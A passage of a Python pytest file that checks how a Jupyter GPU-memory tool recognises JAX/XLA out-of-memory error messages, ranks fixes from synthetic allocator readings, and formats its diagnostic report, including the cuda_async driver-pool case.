"""Recognising OOM errors and the ranked advice, from recorded texts and synthetic readings.

Every OomReadings below is synthetic (made up for the rule it tests, ``synthetic=True``); the
GPU message texts in tests/data/oom_texts are written from the reference page, the CPU one is a
recording (see that folder's README).
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from xla_texts import human_readable_num_bytes

from jupyter_gpumem import demo_traces, doctor
from jupyter_gpumem.core.readings import (
    CudaPoolReading,
    DeviceReading,
    JaxDeviceReading,
    NotAvailable,
    ProcessReading,
    Sample,
    normalise_stats,
)
from jupyter_gpumem.core.tracefile import read_trace
from jupyter_gpumem.doctor.oom_readings import OomReadings, OtherProcess
from jupyter_gpumem.doctor.oom_rules import advise, shortfall
from jupyter_gpumem.doctor.oom_text import OomError, parse_request, recognise, recognise_text, xla_human_bytes

pytestmark = pytest.mark.jax_versions

TEXTS = Path(__file__).parents[1] / "data" / "oom_texts"
TRACES = demo_traces.FOLDER
GiB = 1024**3
PID = 4242


def text(name: str) -> str:
    return (TEXTS / name).read_text().strip()


# --- the message forms -----------------------------------------------------------------------


def test_cpu_text_recorded_from_jax_gives_exact_bytes():
    assert parse_request(text("cpu_jax_0.10.2.txt")) == ("cpu", 17_592_186_044_416, True, None)


def test_gpu_text_in_human_units_gives_rounded_bytes():
    # 21.88 GiB = 21.88 * 1073741824 = 23493471109.12 bytes
    assert parse_request(text("gpu_bfc_human.txt")) == ("gpu_human", 23_493_471_109, False, None)


def test_gpu_text_of_jax_0_4_30_gives_exact_bytes():
    assert parse_request(text("gpu_bfc_bytes_0.4.30.txt")) == ("gpu_bytes", 7_406_166_528, True, None)


def test_platform_allocator_text_gives_exact_bytes_and_the_ordinal():
    assert parse_request(text("platform_allocator.txt")) == ("platform", 33_554_432, True, 0)


@pytest.mark.parametrize(
    "name, form",
    [
        ("gpu_bfc_human.txt", "gpu_human"),
        ("gpu_bfc_bytes_0.4.30.txt", "gpu_bytes"),
        ("gpu_host_memory_0.10.2.txt", "host"),
        ("cpu_jax_0.10.2.txt", "cpu"),
    ],
)
def test_a_device_ordinal_named_anywhere_in_the_text_is_read_whatever_the_form(name, form):
    # These forms' own patterns capture no ordinal; the text may still name one elsewhere (the
    # platform allocator's wording, here appended to each: written for the test, not a recording).
    found = parse_request(text(name) + "\nFailed to allocate on device ordinal 3")
    assert (found[0], found[3]) == (form, 3)


def test_resource_exhausted_without_a_size_keeps_the_device_ordinal_the_text_names():
    found = recognise(JaxRuntimeError("RESOURCE_EXHAUSTED: ran out on device ordinal 2"))
    assert (found.form, found.requested_bytes, found.ordinal) == ("resource_exhausted", None, 2)


class JaxRuntimeError(RuntimeError):
    """Named like jax.errors.JaxRuntimeError; recognition goes by name, not by import."""


class XlaRuntimeError(RuntimeError):
    """Named like the pre-0.8 jaxlib class."""


@pytest.mark.parametrize("cls", [JaxRuntimeError, XlaRuntimeError])
@pytest.mark.parametrize(
    "name", ["cpu_jax_0.10.2.txt", "gpu_bfc_human.txt", "gpu_bfc_bytes_0.4.30.txt", "platform_allocator.txt"]
)
def test_every_form_is_recognised_on_either_runtime_error_class(cls, name):
    found = recognise(cls(text(name)))
    assert found is not None and found.class_name == cls.__name__ and found.requested_bytes > 0


def test_recognise_gives_the_whole_error_of_a_runtime_error():
    found = recognise(JaxRuntimeError(text("gpu_bfc_human.txt")))
    assert found.to_json() == {
        "form": "gpu_human",
        "allocator": None,
        "autotuning": False,
        "requested_bytes": 23_493_471_109,
        "exact": False,
        "ordinal": None,
        "requested_range": [23_488_102_400, 23_499_636_735],
        "class_name": "JaxRuntimeError",
        "message": text("gpu_bfc_human.txt"),
    }


def test_recognise_text_gives_the_whole_error_of_a_text_alone():
    assert recognise_text(text("gpu_bfc_bytes_0.4.30.txt")).to_json() == {
        "form": "gpu_bytes",
        "allocator": None,
        "autotuning": False,
        "requested_bytes": 7_406_166_528,
        "exact": True,
        "ordinal": None,
        "requested_range": [7_406_166_528, 7_406_166_528],
        "class_name": "",
        "message": text("gpu_bfc_bytes_0.4.30.txt"),
    }


def test_recognise_text_keeps_the_ordinal_of_the_form_it_matched():
    assert recognise_text(text("platform_allocator.txt")).ordinal == 0


def test_an_error_whose_text_cannot_be_read_is_not_an_oom_and_raises_nothing():
    class Unprintable(JaxRuntimeError):
        def __str__(self):
            raise ValueError("no text")

    assert recognise(Unprintable()) is None


def test_resource_exhausted_in_a_text_alone_is_recognised_whole():
    message = "RESOURCE_EXHAUSTED: ran out with allocator GPU_1_bfc on device ordinal 1"
    assert recognise_text(message).to_json() == {
        "form": "resource_exhausted",
        "allocator": "GPU_1_bfc",
        "autotuning": False,
        "requested_bytes": None,
        "exact": False,
        "ordinal": 1,
        "requested_range": None,
        "class_name": "",
        "message": message,
    }


def test_resource_exhausted_in_a_text_from_another_class_is_not_jax():
    assert recognise_text("RESOURCE_EXHAUSTED: quota", "QuotaError") is None


def test_resource_exhausted_on_jaxs_error_is_recognised_whole():
    message = "RESOURCE_EXHAUSTED: Failed to get configs for: 1 out of 3 instructions. ran out on device ordinal 2"
    assert recognise(XlaRuntimeError(message)).to_json() == {
        "form": "resource_exhausted",
        "allocator": None,
        "autotuning": True,
        "requested_bytes": None,
        "exact": False,
        "ordinal": 2,
        "requested_range": None,
        "class_name": "XlaRuntimeError",
        "message": message,
    }


def test_a_size_in_human_units_may_have_a_space_before_the_unit():
    assert parse_request("Out of memory while trying to allocate 21.88 GiB.") == (
        "gpu_human",
        23_493_471_109,
        False,
        None,
    )


def test_a_size_that_is_not_a_number_gives_no_size():
    assert parse_request("Out of memory while trying to allocate 1.2.3GiB.") == ("gpu_human", None, False, None)


def _chained(depth: int) -> BaseException:
    """An OOM with ``depth`` other errors raised from it, the outermost returned."""
    exc: BaseException = JaxRuntimeError(text("gpu_bfc_human.txt"))
    for i in range(depth):
        outer = KeyError(f"wrapper {i}")
        outer.__cause__ = exc
        exc = outer
    return exc


def test_an_oom_four_errors_down_the_chain_is_found_and_five_down_is_not():
    assert recognise(_chained(4)).form == "gpu_human"
    assert recognise(_chained(5)) is None


def test_resource_exhausted_without_a_size_is_still_recognised():
    found = recognise(JaxRuntimeError("RESOURCE_EXHAUSTED: something else ran out"))
    assert (found.form, found.requested_bytes) == ("resource_exhausted", None)


def test_resource_exhausted_on_a_plain_runtime_error_is_not_taken_for_jax():
    assert recognise(RuntimeError("RESOURCE_EXHAUSTED: quota")) is None


def test_python_memory_error_is_not_jax_oom():
    assert recognise(MemoryError("Out of memory allocating 10 bytes")) is None


def test_value_error_with_oom_words_is_not_recognised():
    assert recognise(ValueError(text("cpu_jax_0.10.2.txt"))) is None


def test_oom_raised_from_inside_another_error_is_found():
    try:
        try:
            raise JaxRuntimeError(text("gpu_bfc_bytes_0.4.30.txt"))
        except JaxRuntimeError as inner:
            raise KeyError("wrapper") from inner
    except KeyError as outer:
        found = recognise(outer)
    assert found.requested_bytes == 7_406_166_528


def test_text_with_following_buffer_assignment_lines_still_parses():
    msg = (
        text("gpu_bfc_human.txt")
        + "\nBufferAssignment OOM Debugging.\nBufferAssignment stats:\n  parameter allocation: 1.00GiB"
    )
    assert recognise_text(msg).requested_bytes == 23_493_471_109


def test_unrelated_text_is_not_recognised():
    assert recognise_text("Array has been deleted with shape=float32[3].") is None


# --- the advice rules (synthetic readings) ----------------------------------------------------


def kinds(readings: OomReadings) -> list[str]:
    return [f.kind for f in advise(readings)]


def test_request_larger_than_the_device_is_the_only_advice():
    r = OomReadings(
        requested=100 * GiB,
        device_total=80 * GiB,
        bytes_in_use=0,
        pool_bytes=60 * GiB,
        bytes_limit=60 * GiB,
        largest_free_block=60 * GiB,
        history_bytes=GiB,
        remat=False,
        synthetic=True,
    )
    fixes = advise(r)
    assert [f.kind for f in fixes] == ["too_large"]
    assert "100.00 GiB" in fixes[0].title and "80.00 GiB" in fixes[0].title


def test_another_kernel_holding_75_percent_comes_first_and_names_it():
    # this kernel: pool 10 of limit 60; device free 10 GiB; request 12 GiB; another kernel 60 GiB.
    r = OomReadings(
        requested=12 * GiB,
        device_total=80 * GiB,
        device_free=10 * GiB,
        bytes_in_use=9 * GiB,
        pool_bytes=10 * GiB,
        bytes_limit=60 * GiB,
        largest_free_block=GiB,
        preallocate=False,
        others=(OtherProcess(4_200_101, 60 * GiB, "Jupyter kernel"),),
        synthetic=True,
    )
    first = advise(r)[0]
    assert first.kind == "other_process"
    assert first.title == "1 other process (a Jupyter kernel) holds 60.00 GiB (75%) of this device"
    assert "pid 4200101" in first.action
    assert first.enough is True and first.gain_bytes == 60 * GiB
    assert any("%gpumem preallocate off" in a for a in first.extra_actions)


def test_two_other_processes_hold_in_the_plural():
    r = OomReadings(
        requested=12 * GiB,
        device_total=80 * GiB,
        device_free=10 * GiB,
        bytes_in_use=9 * GiB,
        pool_bytes=10 * GiB,
        bytes_limit=60 * GiB,
        largest_free_block=GiB,
        preallocate=False,
        others=(OtherProcess(4_200_101, 30 * GiB, "Jupyter kernel"), OtherProcess(4_200_102, 30 * GiB, "python")),
        synthetic=True,
    )
    assert advise(r)[0].title == "2 other processes (1 of them a Jupyter kernel) hold 60.00 GiB (75%) of this device"


def test_enough_free_but_no_block_large_enough_is_fragmentation_with_preallocate_on_as_fix():
    # pool 60 = limit, in use 40: 20 GiB free, largest block 3 GiB, request 8 GiB.
    r = OomReadings(
        requested=8 * GiB,
        device_total=80 * GiB,
        device_free=19 * GiB,
        bytes_in_use=40 * GiB,
        pool_bytes=60 * GiB,
        bytes_limit=60 * GiB,
        largest_free_block=3 * GiB,
        preallocate=False,
        synthetic=True,
    )
    first = advise(r)[0]
    assert first.kind == "fragmentation"
    assert first.action.startswith("%gpumem preallocate on")
    assert "fragmentation 85%" in first.why  # (20 - 3) / 20
    assert any("defragment" in a for a in first.extra_actions)
    # the pool is at its limit, so no growth to name
    assert first.title == "Enough memory is free in total (20.00 GiB), but the largest free block is 3.00 GiB"


def test_fragmentation_with_preallocate_on_advises_a_restart():
    r = OomReadings(
        requested=8 * GiB,
        device_total=80 * GiB,
        bytes_in_use=40 * GiB,
        pool_bytes=60 * GiB,
        bytes_limit=60 * GiB,
        largest_free_block=3 * GiB,
        preallocate=True,
        synthetic=True,
    )
    assert advise(r)[0].action.startswith("Restart the kernel")


def test_arrays_held_only_by_output_history_advise_free_history():
    # 2 GiB free, request 4: short by 2; history holds 6.
    r = OomReadings(
        requested=4 * GiB,
        device_total=80 * GiB,
        bytes_in_use=58 * GiB,
        pool_bytes=60 * GiB,
        bytes_limit=60 * GiB,
        largest_free_block=2 * GiB,
        history_bytes=6 * GiB,
        synthetic=True,
    )
    first = advise(r)[0]
    assert (first.kind, first.action, first.enough) == ("history", "%gpumem free --history", True)


def test_pool_capped_by_the_fraction_suggests_a_fraction_that_fits():
    # fraction .5 of 80 GiB: limit 40, in use 38; request 10 -> 48 GiB needed: 48/80 = 60% + 2 points.
    r = OomReadings(
        requested=10 * GiB,
        device_total=80 * GiB,
        bytes_in_use=38 * GiB,
        pool_bytes=40 * GiB,
        bytes_limit=40 * GiB,
        largest_free_block=2 * GiB,
        fraction=0.5,
        preallocate=True,
        synthetic=True,
    )
    fix = next(f for f in advise(r) if f.kind == "fraction_cap")
    assert fix.action.startswith("%gpumem fraction 0.62")
    assert fix.enough is True  # 0.62 * 80 - 40 = 9.6 GiB more, short by 8


def test_no_fraction_advice_when_the_device_has_no_room_anyway():
    r = OomReadings(
        requested=30 * GiB,
        device_total=80 * GiB,
        bytes_in_use=38 * GiB,
        pool_bytes=40 * GiB,
        bytes_limit=40 * GiB,
        largest_free_block=2 * GiB,
        fraction=0.5,
        others=(OtherProcess(1, 30 * GiB),),
        synthetic=True,
    )
    assert "fraction_cap" not in kinds(r)


def test_memory_outside_the_pool_advises_clearing_compiled_programs():
    r = OomReadings(
        requested=4 * GiB,
        device_total=80 * GiB,
        bytes_in_use=19 * GiB,
        pool_bytes=20 * GiB,
        bytes_limit=20 * GiB,
        largest_free_block=GiB,
        own_process_bytes=30 * GiB,
        synthetic=True,
    )
    fix = next(f for f in advise(r) if f.kind == "compiled_programs")
    assert "%gpumem free --caches" in fix.action and fix.gain_bytes == 10 * GiB


def test_the_gap_outside_the_pool_is_named_for_what_is_there_not_for_xla_temporaries():
    # XLA's convolution scratch and cuBLAS workspaces come from the pool: the gap is the CUDA
    # context, loaded kernels, CUDA graphs, NCCL and other frameworks, and clearing caches frees
    # only the compiled programs' share of it.
    r = OomReadings(
        requested=4 * GiB,
        device_total=80 * GiB,
        bytes_in_use=19 * GiB,
        pool_bytes=20 * GiB,
        bytes_limit=20 * GiB,
        largest_free_block=GiB,
        own_process_bytes=30 * GiB,
        synthetic=True,
    )
    fix = next(f for f in advise(r) if f.kind == "compiled_programs")
    assert "CUDA context" in fix.why and "temporary buffers come from the pool" in fix.why
    assert "workspace" not in fix.why


def test_a_cuda_context_sized_gap_is_not_blamed_on_compiled_programs():
    r = OomReadings(
        requested=4 * GiB,
        device_total=80 * GiB,
        bytes_in_use=19 * GiB,
        pool_bytes=20 * GiB,
        bytes_limit=20 * GiB,
        largest_free_block=GiB,
        own_process_bytes=20 * GiB + 500 * 1024**2,
        synthetic=True,
    )
    assert "compiled_programs" not in kinds(r)


def test_remat_pass_off_advises_turning_it_on():
    r = OomReadings(requested=4 * GiB, device_total=80 * GiB, remat=False, synthetic=True)
    fix = next(f for f in advise(r) if f.kind == "remat")
    assert fix.action.startswith("%gpumem remat on")


def test_request_beyond_all_live_arrays_suggests_checkpointing():
    r = OomReadings(requested=20 * GiB, device_total=80 * GiB, remat=True, live_bytes=GiB, synthetic=True)
    fix = next(f for f in advise(r) if f.kind == "remat")
    assert "jax.checkpoint" in fix.action


def test_a_fix_that_covers_the_shortfall_ranks_above_a_larger_count_of_smaller_ones():
    # short by 5 GiB: compiled programs win 10 (enough); a fraction of 0.34 (25 GiB needed of 80,
    # +2 points) wins 0.34 * 80 - 20 = 7.2 (enough); history wins 3 (not enough).
    r = OomReadings(
        requested=6 * GiB,
        device_total=80 * GiB,
        bytes_in_use=19 * GiB,
        pool_bytes=20 * GiB,
        bytes_limit=20 * GiB,
        largest_free_block=GiB,
        own_process_bytes=30 * GiB,
        history_bytes=3 * GiB,
        synthetic=True,
    )
    assert kinds(r) == ["compiled_programs", "fraction_cap", "history"]


# --- the report from the synthetic GPU traces --------------------------------------------------


def last_sample(name: str):
    trace = read_trace(TRACES / name)
    assert trace.synthetic  # these traces are made up, not recorded on a GPU
    return trace.samples[-1]


def test_report_from_two_kernels_trace_blames_the_other_kernel(monkeypatch):
    # synthetic trace: pid 41234 holds 64683769856 of 85520809984 bytes (76%).
    sample = last_sample("synthetic_two_kernels.jsonl")
    error = OomError("gpu_human", 20 * GiB, False, None, "JaxRuntimeError", "synthetic")
    report = doctor.oom_report(error, sample=sample, live=[], synthetic=True)
    assert [f.kind for f in report.fixes] == ["other_process", "remat"]
    assert "76%" in report.fixes[0].title
    assert report.readings.largest_request == 17_041_460_992  # the pool's largest free block
    assert "synthetic" in str(report)


def test_report_from_fragmenting_trace_says_fragmentation_and_preallocate_on(monkeypatch):
    monkeypatch.setenv("XLA_PYTHON_CLIENT_PREALLOCATE", "false")  # as the trace's header says
    sample = last_sample("synthetic_bfc_growth_fragmenting.jsonl")
    # headroom min(64140607488 - 34227617792, free 50197430272) = 29912989696 < 30 GiB request
    error = OomError("gpu_human", 30 * GiB, False, None, "JaxRuntimeError", "synthetic")
    report = doctor.oom_report(error, sample=sample, live=[], synthetic=True)
    first = report.fixes[0]
    assert first.kind == "fragmentation" and first.action.startswith("%gpumem preallocate on")
    assert "fragmentation 85%" in first.why  # (19077753856 - 2882316288) / 19077753856
    text_report = str(report)
    assert "largest free block 2.68 GiB" in text_report and "headroom 27.86 GiB" in text_report
    assert "Requested: 30.00 GiB (32,212,254,720 bytes; the error printed it rounded)." in text_report
    assert "\n  async-prealloc  " in text_report  # spelt as the magic and %gpumem status spell it
    # the sentence names each quantity: 27.86 GiB is what the pool can grow by, not a block
    assert first.title == (
        "Enough memory is free in total (45.63 GiB), but the largest free block is 2.68 GiB "
        "and the pool can grow by only 27.86 GiB"
    )
    assert "<table>" in report._repr_html_()


def test_the_html_report_puts_what_to_do_before_the_tables():
    """The report shows under IPython's traceback: the fixes come first, the numbers after."""
    sample = last_sample("synthetic_two_kernels.jsonl")
    html = doctor.oom_report(
        JaxRuntimeError(text("gpu_bfc_human.txt")), sample=sample, live=[], synthetic=True
    )._repr_html_()
    assert html.index("What to do, best first:") < html.index("Allocator settings in effect:") < html.index("<table>")


# --- a replayed report: the trace has the allocator's readings, not the arrays -----------------


def test_a_replayed_report_says_its_arrays_are_not_known_and_how_much_the_allocator_held(monkeypatch):
    monkeypatch.setenv("XLA_PYTHON_CLIENT_PREALLOCATE", "false")  # as the trace's header says
    sample = last_sample("synthetic_bfc_growth_fragmenting.jsonl")  # bytes_in_use 15153561600
    error = OomError("gpu_human", 32 * GiB, False, None, "JaxRuntimeError", "synthetic")
    report = doctor.oom_report(error, sample=sample, synthetic=True)  # no live list: a replay
    lines = str(report).splitlines()
    assert lines[lines.index("Largest live arrays:") + 1] == (
        "  not known for a replayed trace, which records the allocator's readings, not the arrays: "
        "together at most the 14.11 GiB in use"
    )
    assert "no live JAX arrays" not in report._repr_html_()
    assert report.readings.live_bytes is None and report.to_json()["live_bytes"] is None


def test_a_replayed_report_weighs_the_request_against_the_allocators_in_use_not_zero_arrays():
    # synthetic trace: the allocator holds 1 GiB in use; the request is 24 GiB
    sample = last_sample("synthetic_two_kernels.jsonl")
    error = OomError("gpu_human", 24 * GiB, False, None, "JaxRuntimeError", "synthetic")
    report = doctor.oom_report(error, sample=sample, synthetic=True)
    assert [f.kind for f in report.fixes] == ["other_process", "remat"]
    assert report.fixes[1].title == (
        "The request (24.00 GiB) is larger than all the allocator had in use (1.00 GiB): a program's temporaries"
    )
    assert "(0 B)" not in str(report)


def test_without_the_arrays_remat_is_not_advised_for_a_request_within_the_allocators_in_use():
    r = OomReadings(requested=20 * GiB, device_total=80 * GiB, bytes_in_use=30 * GiB, remat=True, synthetic=True)
    assert "remat" not in kinds(r)


def test_without_the_arrays_remat_is_advised_for_a_request_beyond_the_allocators_in_use():
    r = OomReadings(requested=20 * GiB, device_total=80 * GiB, bytes_in_use=GiB, remat=True, synthetic=True)
    fix = next(f for f in advise(r) if f.kind == "remat")
    assert fix.why.startswith("Every live array on the device is within the allocator's in-use bytes")


def test_with_the_arrays_remat_weighs_the_request_against_them_not_the_allocators_in_use():
    # 20 GiB requested: above the 1 GiB of live arrays, below the 30 GiB in use (a program's buffers)
    r = OomReadings(
        requested=20 * GiB, device_total=80 * GiB, bytes_in_use=30 * GiB, live_bytes=GiB, remat=True, synthetic=True
    )
    fix = next(f for f in advise(r) if f.kind == "remat")
    assert fix.title == "The request (20.00 GiB) is larger than all live arrays (1.00 GiB): a program's temporaries"


def test_a_replayed_cpu_report_does_not_claim_to_count_live_arrays_instead():
    cpu = JaxDeviceReading(0, "cpu", "cpu", None, NotAvailable("no_stats", "the CPU keeps no allocator statistics"))
    sample = Sample(t=1.0, pid=PID, devices=(), jax=(cpu,))  # synthetic
    error = OomError("cpu", GiB, True, None, "JaxRuntimeError", "synthetic")
    report = doctor.oom_report(error, sample=sample, synthetic=True)
    assert report.devices[0].note == "the CPU keeps no allocator statistics; a replay has no arrays to count instead"
    lines = str(report).splitlines()
    assert lines[lines.index("Largest live arrays:") + 1] == (
        "  not known for a replayed trace, which records the allocator's readings, not the arrays"
    )
    assert "remat" not in [f.kind for f in report.fixes]


# --- cuda_async: the pool is the CUDA driver's default pool ----------------------------------
#
# Source: openxla/xla, xla/stream_executor/gpu/gpu_cudamallocasync_allocator.cc (read at the
# ROCm/xla fork, commit 37fe764f8b67842e6783c6f439647fff3a251899; the same file at openxla/xla
# 16569562 and in tensorflow/tensorflow's third_party/xla agrees on the points below):
# - the allocator takes the device's default pool (cuDeviceGetDefaultMemPool), which has no max
#   size, and allocates from it with cuMemAllocFromPoolAsync: the fraction is no cap;
# - it sets the pool's CU_MEMPOOL_ATTR_RELEASE_THRESHOLD, and its stats' bytes_limit, to
#   reserve_memory_size, which xla/pjrt/gpu/se_gpu_pjrt_client.cc (CreateCudaAsyncAllocator)
#   makes 0 with preallocation off: unused pool memory goes back at each synchronisation;
# - its stats carry no pool_bytes, so the pool's size comes from the driver (CudaPoolReading).
# shared/reference/jax-memory-facts.md records the same (still to be seen on a GPU).

MiB = 1024**2


def async_pool(reserved: int, used: int) -> CudaPoolReading:
    return CudaPoolReading(reserved_bytes=reserved, reserved_high_bytes=reserved, used_bytes=used, used_high_bytes=used)


def cuda_async_sample(reserved: int, in_use: int, process: int, free: int, bytes_limit: int = 0) -> Sample:
    """GPU 0, 80 GiB, this process alone on it; cuda_async's stats as XLA reports them."""
    used = 80 * GiB - free
    dev = DeviceReading(
        0, "NVIDIA H100 80GB HBM3", "GPU-0", 80 * GiB, used, free, processes=(ProcessReading(PID, process),)
    )
    stats = normalise_stats(
        {
            "bytes_in_use": in_use,
            "peak_bytes_in_use": in_use,
            "bytes_limit": bytes_limit,
            "largest_free_block_bytes": 0,
            "num_allocs": 3,
        },
        "cuda_async",
    )
    jax = JaxDeviceReading(0, "gpu", "NVIDIA H100 80GB HBM3", 0, stats, async_pool(reserved, in_use))
    return Sample(t=1.0, pid=PID, devices=(dev,), jax=(jax,))


def test_report_with_no_other_process_listed_names_the_used_memory_that_is_not_this_kernels(monkeypatch):
    # 80 GiB device, 50 GiB free -> 30 GiB used; NVML lists only this process, with 29.5 GiB:
    # 512 MiB used is not this kernel's (what the monitor draws as other processes), so not "none"
    sample = cuda_async_sample(reserved=20 * GiB, in_use=19 * GiB, process=29 * GiB + 512 * MiB, free=50 * GiB)
    error = OomError("gpu_human", 60 * GiB, False, None, "JaxRuntimeError", "synthetic")
    report = doctor.oom_report(error, sample=sample, live=[], synthetic=True)
    lines = str(report).splitlines()
    at = lines.index("Other processes on the device:")
    assert lines[at + 1] == (
        "  none listed by NVML, yet 512.00 MiB of the device's used memory is not this kernel's: "
        "the driver's own, or processes NVML does not list here (another container's)"
    )


def test_report_with_no_other_process_and_nothing_unaccounted_says_none(monkeypatch):
    sample = cuda_async_sample(reserved=20 * GiB, in_use=19 * GiB, process=30 * GiB, free=50 * GiB)
    error = OomError("gpu_human", 60 * GiB, False, None, "JaxRuntimeError", "synthetic")
    lines = str(doctor.oom_report(error, sample=sample, live=[], synthetic=True)).splitlines()
    assert lines[lines.index("Other processes on the device:") + 1] == "  none"


def test_cuda_async_reserved_but_unused_pool_is_not_blamed_on_compiled_programs():
    # preallocation off: the driver pool reserves 30 GiB, 10 in use; NVML counts 31 GiB for the
    # process -> 1 GiB outside the pool (not 31 - 10 = 21 GiB "of compiled programs")
    r = OomReadings(
        requested=60 * GiB,
        device_total=80 * GiB,
        device_free=49 * GiB,
        bytes_in_use=10 * GiB,
        own_process_bytes=31 * GiB,
        allocator="cuda_async",
        preallocate=False,
        cuda_pool=async_pool(30 * GiB, 10 * GiB),
        synthetic=True,
    )
    assert r.outside_pool == 1 * GiB
    assert "compiled_programs" not in kinds(r)


def test_cuda_async_with_preallocation_on_is_not_advised_a_larger_fraction():
    # bytes_limit 40 GiB is only the pool's release threshold: in use 38 + request 10 = 48 > 40
    # would have suggested `%gpumem fraction 0.62` under BFC
    r = OomReadings(
        requested=10 * GiB,
        device_total=80 * GiB,
        device_free=2 * GiB,
        bytes_in_use=38 * GiB,
        bytes_limit=40 * GiB,
        own_process_bytes=40 * GiB + 400 * MiB,
        fraction=0.5,
        preallocate=True,
        allocator="cuda_async",
        cuda_pool=async_pool(40 * GiB, 38 * GiB),
        synthetic=True,
    )
    assert "fraction_cap" not in kinds(r)


def test_cuda_async_largest_request_is_what_the_device_has_free():
    # driver pool 30 reserved, 10 in use -> 20 unused; device free 49 GiB -> max(20, 49) = 49
    r = OomReadings(
        requested=60 * GiB,
        device_total=80 * GiB,
        device_free=49 * GiB,
        bytes_in_use=10 * GiB,
        allocator="cuda_async",
        cuda_pool=async_pool(30 * GiB, 10 * GiB),
        synthetic=True,
    )
    assert r.largest_request == 49 * GiB
    assert shortfall(r) == 11 * GiB


def test_cuda_async_memory_outside_the_driver_pool_names_that_pool():
    # driver pool 20 GiB; NVML counts 30 GiB for the process -> 10 GiB outside it
    r = OomReadings(
        requested=4 * GiB,
        device_total=80 * GiB,
        device_free=GiB,
        bytes_in_use=19 * GiB,
        own_process_bytes=30 * GiB,
        allocator="cuda_async",
        cuda_pool=async_pool(20 * GiB, 19 * GiB),
        synthetic=True,
    )
    fix = next(f for f in advise(r) if f.kind == "compiled_programs")
    assert fix.gain_bytes == 10 * GiB
    assert fix.why.endswith(
        "NVML counts 30.00 GiB for this process, the CUDA driver's default pool (cuda_async) 20.00 GiB."
    )


def test_report_under_cuda_async_reads_the_driver_pool_and_gives_no_fraction_advice(monkeypatch):
    monkeypatch.setenv("XLA_PYTHON_CLIENT_ALLOCATOR", "cuda_async")
    monkeypatch.setenv("XLA_PYTHON_CLIENT_PREALLOCATE", "false")
    # 30 GiB reserved by the driver pool, 10 in arrays; the process 31 GiB; 49 GiB free on the device
    sample = cuda_async_sample(reserved=30 * GiB, in_use=10 * GiB, process=31 * GiB, free=49 * GiB)
    error = OomError("gpu_human", 60 * GiB, False, None, "JaxRuntimeError", "synthetic")
    report = doctor.oom_report(error, sample=sample, live=[], synthetic=True)
    text = str(report)
    assert "outside JAX's pool" not in text
    assert "%gpumem fraction" not in text
    assert [f.kind for f in report.fixes] == ["remat"]
    assert (
        "  gpu 0 (NVIDIA H100 80GB HBM3): in use 10.00 GiB, pool 30.00 GiB; the pool is the CUDA driver's "
        "default pool (cuda_async), and no fraction caps it: with preallocation off its release threshold "
        "is 0, so unused pool memory goes back to the device at each synchronisation"
    ) in text.splitlines()
    assert "default pool (cuda_async)" in report._repr_html_()


def test_report_from_cuda_async_trace_takes_the_pool_from_the_driver(monkeypatch):
    monkeypatch.setenv("XLA_PYTHON_CLIENT_ALLOCATOR", "cuda_async")
    monkeypatch.setenv("XLA_PYTHON_CLIENT_PREALLOCATE", "false")
    sample = last_sample("synthetic_cuda_async.jsonl")
    error = OomError("gpu_human", 60 * GiB, False, None, "JaxRuntimeError", "synthetic")
    report = doctor.oom_report(error, sample=sample, live=[], synthetic=True)
    device = report.devices[0]
    assert (device.pool, device.limit, device.headroom, device.driver_pool) == (29_393_682_432, None, None, True)
    # max(29393682432 reserved - 29363158248 in use, 55031365632 free on the device)
    assert report.readings.largest_request == 55_031_365_632


# --- the pinned host memory pool, and a kernel that could not be loaded -----------------------
#
# Texts (tests/data/oom_texts/README.md): XLA's MemoryAllocationError
# (xla/stream_executor/integrations/tf_allocator_adapter.cc) writes "Out of host memory while
# trying to allocate 14.16GiB." (tsl::strings::HumanReadableNumBytes, jax-cuda12-pjrt 0.10.2;
# "N bytes." before openxla/xla#33504) for the GPU client's pinned host pool, whose cap is
# XLA_PJRT_GPU_HOST_MEMORY_LIMIT_GB GiB, 64 by default (GetGpuHostAllocator,
# xla/pjrt/gpu/gpu_helpers.cc); LoadCubin (xla/stream_executor/cuda/cuda_executor.cc) writes
# "[0] Failed to load in-memory CUBIN (compiled for a different GPU?)." and cuda::ToStatus
# (cuda_status.cc) adds ": CUDA_ERROR_OUT_OF_MEMORY: out of memory" as RESOURCE_EXHAUSTED. Both
# format strings are in jax-cuda12-pjrt 0.10.2's xla_cuda_plugin.so.


def test_host_memory_text_before_xla_33504_gives_exact_bytes_as_the_host_form():
    assert parse_request(text("gpu_host_memory_bytes.txt")) == ("host", 15_200_000_000, True, None)


def test_host_memory_text_of_jax_0_10_2_in_human_units_is_the_host_form_with_its_size():
    # 14.16 GiB = 14.16 * 1073741824 = 15204184227.84 bytes
    assert parse_request(text("gpu_host_memory_0.10.2.txt")) == ("host", 15_204_184_228, False, None)


@pytest.mark.parametrize(
    "printed, low, high",
    [
        ("1023B", 1023, 1023),
        # KiB, one decimal: 1.45 * 1024 = 1484.8 .. 1.55 * 1024 = 1587.2 bytes
        ("1.5KiB", 1485, 1587),
        # GiB: MiB counts m with round(m / 1024, 2) == 14.16: 14.155 * 1024 = 14494.72 .. 14.165 * 1024
        # = 14504.96, so m = 14495 .. 14504, times 1 MiB, plus up to 1 MiB - 1 of remainder
        ("14.16GiB", 14495 * 2**20, 14505 * 2**20 - 1),
        # 0.125 * 1024 = 128 is printed "0.12" (half to even), so 1.125 MiB of KiB counts rounds down
        ("1.12MiB", 1142 * 1024, 1152 * 1024 + 1023),
    ],
)
def test_xla_human_units_give_the_interval_xla_rounds_into(printed, low, high):
    assert xla_human_bytes(printed) == (low, high)


@pytest.mark.parametrize("printed", ["14.16 GiB", "14.1GiB", "1024B", "0.50GiB", "12GiB", "3.00GB"])
def test_sizes_xla_never_prints_are_not_taken_for_its_units(printed):
    assert xla_human_bytes(printed) is None


@pytest.mark.parametrize(
    "n",
    [
        0,
        1023,
        1024,
        1075,
        1076,
        1_048_575,
        1_048_576,
        15_200_000_000,
        2**42,
        2**42 + 2**30 - 1,
        17_592_186_044_416 * 3 + 12345,
        2**62,
    ],
)
def test_every_size_xla_prints_reads_back_to_an_interval_holding_it(n):
    low, high = xla_human_bytes(human_readable_num_bytes(n))
    assert low <= n <= high


def test_report_of_a_host_memory_error_in_human_units_names_the_size_and_the_host_limit():
    """Before: "14.16GiB" was not read, the text fell to the sizeless RESOURCE_EXHAUSTED form and
    got device advice. The variable is read by xla::GetGpuHostAllocator (xla/pjrt/gpu/gpu_helpers.cc,
    tsl::ReadInt64FromEnvVar, GiB) in jax-cuda12-pjrt 0.10.2."""
    sample = last_sample("synthetic_two_kernels.jsonl")
    report = doctor.oom_report(
